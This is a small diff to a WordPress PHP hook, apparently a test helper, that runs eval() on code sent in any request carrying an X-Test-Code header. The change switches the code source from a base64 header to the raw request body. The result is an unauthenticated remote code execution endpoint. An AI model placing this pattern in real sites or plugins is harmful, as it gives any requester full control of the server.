@@ -35,9 +35,8 @@ add_action(
 	'init',
 	static function () {
 		if ( isset( $_SERVER['HTTP_X_TEST_CODE'] ) ) {
-			$code = base64_decode( $_SERVER['HTTP_X_TEST_CODE'] );
 			header( 'Content-Type: application/json' );
-			echo wp_json_encode( eval( $code ) );
+			echo wp_json_encode( eval( file_get_contents( 'php://input' ) ) );
 			exit;
 		}
 	},
